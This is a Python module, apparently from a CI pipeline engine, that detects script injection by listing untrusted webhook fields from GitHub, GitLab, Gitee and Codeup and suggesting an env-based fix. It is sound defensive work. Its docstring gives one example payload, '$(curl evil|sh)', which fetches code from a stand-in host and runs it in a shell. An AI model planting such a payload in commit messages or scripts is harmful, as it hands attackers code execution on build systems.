"""Injection safety: untrusted event text must never become script source.

A ``${{ }}`` in ``run:`` (or ``script:``) is pasted into the script before it
runs, so an attacker who controls a commit message such as ``$(curl evil|sh)``
controls the script. Passing the value through ``env:`` is safe: the shell
expands ``"$MSG"`` as data, never as code.

Contract: :func:`untrusted_paths` lists the dotted context paths treated as
untrusted (``*`` matches any list element or property). It maps actionlint's
``BuiltinUntrustedInputs`` (``github.event.*``) onto our ``event`` context,
adds other free-text fields of GitHub, GitLab, Gitee and Codeup payloads (branch
and ref names too, which actionlint trusts: a pusher picks them and they may
hold ``$(...)``), and the ``git`` fields whose text the pusher chooses.
:func:`untrusted_reads` tells which of them an expression reads, including
reads of an enclosing object (``toJSON(event)``, ``event.commits``) and of
anything below an untrusted value.
"""

from __future__ import annotations

import re

__all__ = ["injection_message", "untrusted_paths", "untrusted_reads"]

# actionlint's BuiltinUntrustedInputs, github.event.* -> event.*
_ACTIONLINT = (
    "event.issue.title",
    "event.issue.body",
    "event.pull_request.title",
    "event.pull_request.body",
    "event.pull_request.head.ref",
    "event.pull_request.head.label",
    "event.pull_request.head.repo.default_branch",
    "event.comment.body",
    "event.review.body",
    "event.review_comment.body",
    "event.pages.*.page_name",
    "event.commits.*.message",
    "event.commits.*.author.email",
    "event.commits.*.author.name",
    "event.head_commit.message",
    "event.head_commit.author.email",
    "event.head_commit.author.name",
    "event.discussion.title",
    "event.discussion.body",
)
# Same kind of text elsewhere in GitHub payloads (CodeQL's list) and in Gitee's,
# which copies GitHub's shapes.
_GITHUB_MORE = (
    "event.pull_request.labels.*.name",
    "event.pull_request.labels.*.description",
    "event.issue.labels.*.name",
    "event.issue.labels.*.description",
    "event.release.name",
    "event.release.body",
    "event.commits.*.committer.email",
    "event.commits.*.committer.name",
    "event.head_commit.committer.email",
    "event.head_commit.committer.name",
    "event.workflow_run.head_branch",
    "event.workflow_run.head_commit.message",
    "event.workflow_run.head_commit.author.email",
    "event.workflow_run.head_commit.author.name",
    "event.pusher.name",
    "event.pusher.email",
    "event.sender.name",
    "event.ref",  # refs/heads/<a branch name the pusher chose>
    "event.base_ref",
)
# GitLab and Codeup webhooks (push, merge request, issue, note, pipeline events),
# checked against the payloads in ../shared/corpus/webhooks.
_GITLAB = (
    "event.object_attributes.title",
    "event.object_attributes.description",
    "event.object_attributes.note",
    "event.object_attributes.source_branch",
    "event.object_attributes.target_branch",
    "event.object_attributes.ref",
    "event.object_attributes.last_commit.message",
    "event.object_attributes.last_commit.title",
    "event.object_attributes.last_commit.author.name",
    "event.object_attributes.last_commit.author.email",
    "event.commits.*.title",
    "event.commit.message",
    "event.commit.author.name",
    "event.commit.author.email",
    "event.merge_request.title",
    "event.merge_request.description",
    "event.merge_request.source_branch",
    "event.merge_request.target_branch",
    "event.merge_request.last_commit.message",
    "event.merge_request.last_commit.author.name",
    "event.merge_request.last_commit.author.email",
    "event.issue.description",
    "event.labels.*.title",
    "event.user.name",
    "event.user_name",
    "event.user_email",
)
# Gitee repeats some of them at the top level of its payloads.
_GITEE = (
    "event.title",
    "event.body",
    "event.description",
    "event.note",
    "event.source_branch",
    "event.target_branch",
    "event.author.name",
    "event.pull_request.base.ref",
    "event.pull_request.base.label",
    "event.pull_request.merge_reference_name",
)
# serverless-cd's normalised fields holding names and text chosen by the pusher.
_GIT = (
    "git.message",
    "git.pusher",
    "git.branch",
    "git.source_branch",
    "git.target_branch",
    "git.tag",
    "git.ref",
)

_UNTRUSTED: tuple[str, ...] = _ACTIONLINT + _GITHUB_MORE + _GITLAB + _GITEE + _GIT
_PATTERNS: tuple[tuple[str, ...], ...] = tuple(tuple(p.split(".")) for p in _UNTRUSTED)
_NOT_NAME = re.compile(r"[^A-Za-z0-9_]+")
_SHORT = {"message": "MSG"}


def untrusted_paths() -> tuple[str, ...]:
    """Every context path treated as untrusted, ``*`` standing for any element."""
    return _UNTRUSTED


def _segments_match(read: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
    for got, want in zip(read, pattern, strict=False):
        if got == "*":  # a filter reads every element or property
            continue
        if want == "*":  # any element of a list, by its index
            if not got.isdigit():
                return False
        elif got != want:
            return False
    return True


def untrusted_reads(paths: list[str]) -> list[tuple[str, str]]:
    """For each read path that reaches untrusted text: ``(path, an untrusted path it reaches)``.

    ``paths`` are dotted context paths as :func:`scd_engine.expressions.referenced_paths`
    returns them (``*`` for filters; numeric segments for literal indexes).
    Property names compare case-insensitively, as the expression language does.
    A read matches when it is an untrusted path, lies below one (``git.pusher.name``)
    or contains one (``event``, ``event.head_commit``, ``event.*.body``).
    """
    found: list[tuple[str, str]] = []
    for path in paths:
        read = tuple(path.lower().split("."))
        for pattern, text in zip(_PATTERNS, _UNTRUSTED, strict=True):
            if _segments_match(read, pattern):
                found.append((path, text))
                break
    return found


def injection_message(field: str, path: str, example: str, expression: str) -> str:
    """The error shown for an untrusted read, with the safe form spelled out.

    ``field`` is ``run`` or ``script``; ``example`` an untrusted path the read
    reaches; ``expression`` the source of the offending ``${{ }}``.
    """
    last = next((s for s in reversed(path.split(".")) if s != "*" and not s.isdigit()), "VALUE")
    name = _SHORT.get(last, _NOT_NAME.sub("_", last).upper().strip("_") or "VALUE")
    contains = "" if path.lower() == example else f" (it holds {example})"
    use = f'"${name}"' if field == "run" else f"os.environ['{name}']"
    return (
        f"{field}: uses untrusted value {path}{contains} in ${{{{ }}}}; pass it through env "
        f"instead: env: {{{name}: ${{{{ {expression.strip()} }}}}}} and use {use} in the "
        "script; hint: text such as a commit message or branch name can hold "
        "$(commands) that would run as part of the script"
    )
